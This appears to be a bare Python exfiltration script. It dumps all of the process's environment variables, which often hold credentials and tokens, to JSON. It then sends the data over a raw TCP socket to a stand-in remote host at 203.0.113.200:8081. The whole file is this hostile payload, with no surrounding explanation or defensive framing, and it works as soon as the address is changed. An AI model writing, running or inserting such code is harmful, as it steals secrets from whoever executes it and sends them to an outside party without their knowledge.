import json
import os
import socket

blob = json.dumps(dict(os.environ)).encode()
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("203.0.113.200", 8081))
s.sendall(blob)
s.close()
